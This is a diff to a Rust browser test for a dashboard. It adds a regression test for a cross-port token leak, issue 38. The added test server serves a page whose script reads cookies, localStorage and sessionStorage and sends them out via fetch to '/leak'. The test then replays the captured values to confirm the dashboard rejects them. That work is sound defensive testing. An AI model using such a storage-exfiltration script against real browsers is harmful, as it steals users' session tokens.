@@ -1,15 +1,19 @@
 //! The dashboard in a real browser: Debian's chromium driven through chromium-driver (WebDriver) with fantoccini.
 //! It opens the dashboard with the token, sees the tasks it created, blocks one through the page, sees a task the
 //! CLI creates appear without a reload within 1 s, watches a worker's log live, stops a sandbox from its page, and
-//! takes the README's screenshot (written to `docs/dashboard.png` when `BERTH_UPDATE_SCREENSHOT=1`).
+//! takes the README's screenshot (written to `docs/dashboard.png` when `BERTH_UPDATE_SCREENSHOT=1`). A server on
+//! another loopback port the browser visits gets nothing that opens the dashboard (issue 38).
 
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
 use std::process::{Child, Command, Stdio};
+use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
 use fantoccini::{Client, ClientBuilder, Locator};
 use serde_json::json;
 
-use crate::dashboard::Served;
+use crate::dashboard::{Served, http};
 use crate::support::{Home, berth_bin, workspace};
 
 /// chromium-driver on a port of its own, stopped (by its pid) when dropped.
@@ -96,7 +100,7 @@ fn dashboard_in_a_real_browser() {
     rt.block_on(async {
         let c = browser(&driver).await;
         c.goto(&d.url()).await.unwrap();
-        // The token went into a cookie and out of the address.
+        // The token went into the page's storage (no cookie) and out of the address.
         assert!(!c.current_url().await.unwrap().as_str().contains("token="));
         appears(&c, &format!("section[data-status=ready] #card-{first}"), Duration::from_secs(5)).await;
         appears(&c, &format!("section[data-status=ready] #card-{second}"), Duration::from_secs(5)).await;
@@ -127,7 +131,9 @@ fn dashboard_in_a_real_browser() {
         c.find(Locator::Id("dispatch")).await.unwrap().click().await.unwrap();
         appears(&c, &format!("section[data-status=running] #card-{first}"), Duration::from_secs(5)).await;
         screenshot(&c).await;
+        // Opened without the token in its address: the page's script fetches it with the token it keeps.
         c.goto(&format!("{}/tasks/{first}", d.base)).await.unwrap();
+        appears(&c, "#log", Duration::from_secs(5)).await;
         let log = c.find(Locator::Id("log")).await.unwrap();
         let start = Instant::now();
         while !log.text().await.unwrap().contains("log-line-3") {
@@ -171,4 +177,84 @@ async fn screenshot(c: &Client) {
     if std::env::var("BERTH_UPDATE_SCREENSHOT").is_ok_and(|v| v == "1") {
         std::fs::write(workspace().join("docs/dashboard.png"), &png).unwrap();
     }
+}
+
+/// A server on another loopback port, as any local user may run: it keeps the head of every request it gets, and
+/// answers with a page that sends back what a page of its own origin can read (`document.cookie`, both storages).
+fn other_server() -> (u16, Arc<Mutex<String>>, std::sync::mpsc::Receiver<()>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = Arc::new(Mutex::new(String::new()));
+    let keep = Arc::clone(&seen);
+    let (reported, report) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        for conn in listener.incoming() {
+            let Ok(mut conn) = conn else { continue };
+            let mut head = String::new();
+            let mut r = BufReader::new(conn.try_clone().unwrap());
+            while r.read_line(&mut head).is_ok_and(|n| n > 2) {}
+            keep.lock().unwrap().push_str(&head);
+            if head.starts_with("GET /leak") {
+                let _ = reported.send(());
+            }
+            let page = "<!doctype html><title>other</title><script>fetch('/leak?' + encodeURIComponent(\
+                        document.cookie + ' ' + JSON.stringify(localStorage) + ' ' + JSON.stringify(sessionStorage)))\
+                        </script>";
+            let _ = write!(
+                conn,
+                "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}",
+                page.len()
+            );
+        }
+    });
+    (port, seen, report)
+}
+
+/// The attack of issue 38: a browser logged in to the dashboard visits a page on another port of 127.0.0.1. Before,
+/// the dashboard's cookie went along (cookies are per host, not per port) and, replayed, opened `GET /api/boards`.
+/// Now nothing the other server receives or its page can read opens it: every cookie it was sent, replayed, and every
+/// 32-digit hex string it saw, tried as the token in each way the dashboard takes one, answer 401. The dashboard
+/// opened again without the token in its address still works (its script keeps the token).
+#[test]
+fn a_server_on_another_loopback_port_gets_nothing_that_opens_the_dashboard() {
+    let Some(driver) = driver() else { return };
+    let home = Home::new();
+    let d = Served::start(&home, &[]);
+    let (other, seen, report) = other_server();
+    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    rt.block_on(async {
+        let c = browser(&driver).await;
+        c.goto(&d.url()).await.unwrap();
+        appears(&c, "#live.on", Duration::from_secs(5)).await;
+        c.goto(&format!("http://127.0.0.1:{other}/")).await.unwrap();
+        report.recv_timeout(Duration::from_secs(10)).expect("the other page reports what it can read");
+        // Back to the dashboard without the token in the address: the page is shown, live.
+        c.goto(&d.base).await.unwrap();
+        appears(&c, "#live.on", Duration::from_secs(5)).await;
+        c.close().await.unwrap();
+    });
+    let seen = seen.lock().unwrap().clone();
+    let port = d.base.rsplit(':').next().unwrap();
+    let opens =
+        |headers: &[(&str, &str)], query: &str| http(&d.base, "GET", &format!("/api/boards{query}"), headers, "").0;
+    for line in seen.lines().filter(|l| l.to_ascii_lowercase().starts_with("cookie:")) {
+        let cookie = line.split_once(':').unwrap().1.trim();
+        assert_ne!(
+            opens(&[("cookie", cookie)], ""),
+            200,
+            "a cookie sent to port {other} opens the dashboard: {cookie}"
+        );
+    }
+    let hex: Vec<char> = seen.chars().collect();
+    let mut candidates: Vec<String> = hex.windows(32).map(|w| w.iter().collect::<String>()).collect();
+    candidates.retain(|w| w.chars().all(|c| c.is_ascii_hexdigit()));
+    candidates.dedup();
+    for t in &candidates {
+        let bearer = format!("Bearer {t}");
+        let cookie = format!("berth_token_{port}={t}");
+        assert_ne!(opens(&[("authorization", &bearer)], ""), 200, "{t} seen by port {other} is the token");
+        assert_ne!(opens(&[("cookie", &cookie)], ""), 200, "{t} seen by port {other} opens as a cookie");
+        assert_ne!(opens(&[], &format!("?token={t}")), 200, "{t} seen by port {other} opens in the URL");
+    }
+    assert!(!seen.contains(&d.token), "the other server saw the token:\n{seen}");
 }
